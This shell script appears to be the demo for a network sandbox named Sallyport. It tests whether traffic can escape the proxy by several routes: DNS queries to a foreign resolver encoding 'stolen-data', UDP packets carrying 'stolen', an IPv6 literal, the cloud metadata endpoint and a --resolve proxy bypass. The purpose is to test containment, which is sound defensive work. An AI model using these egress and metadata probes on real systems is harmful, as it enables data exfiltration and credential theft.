# What the demo runs, once in the open and once inside Sallyport: ordinary programs, nothing prepared.
# Each attempt prints one line, "attempt<TAB>NAME<TAB>what came of it". The word "leaked" in an
# answer means that a host of the outside gave it.
say() { printf 'attempt\t%s\t%s\n' "$1" "$2"; }

# answer NAME CURL-ARGUMENT…: status, reason code and beginning of the body, or curl's own error.
answer() {
  name=$1; shift
  out=$(curl -sS -m 2 -w '\n%{http_code}' "$@" 2>&1)
  code=$?
  if [ $code -ne 0 ]; then say "$name" "no answer: $(printf %s "$out" | grep -m1 'curl:')"; return; fi
  status=$(printf %s "$out" | tail -n 1)
  body=$(printf %s "$out" | sed '$d' | tr '\n\t' '  ' | cut -c 1-1500)
  say "$name" "$status $body"
}

answer allowed http://allowed.test/
answer elsewhere http://denied.test/
# The six ways out. The last five do not ask the proxy at all.
answer address-literal http://203.0.113.66/
say foreign-dns "$(dig +tries=1 +time=2 +noall +comments +answer @192.0.2.8 stolen-data.attacker.test A 2>&1 | tr '\n\t' '  ')"
say udp-443 "$(/usr/bin/python3 -ISc '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
try:
    s.sendto(b"stolen", ("203.0.113.66", 443))
    print("answered", s.recv(100))
except OSError as error:
    print("no answer:", error)
' 2>&1)"
answer ipv6 --noproxy '*' -g 'http://[2001:db8:bad::66]/'
answer metadata --noproxy '*' http://169.254.169.254/latest/meta-data/
answer noproxy --noproxy '*' --resolve denied.test:80:198.51.100.66 http://denied.test/
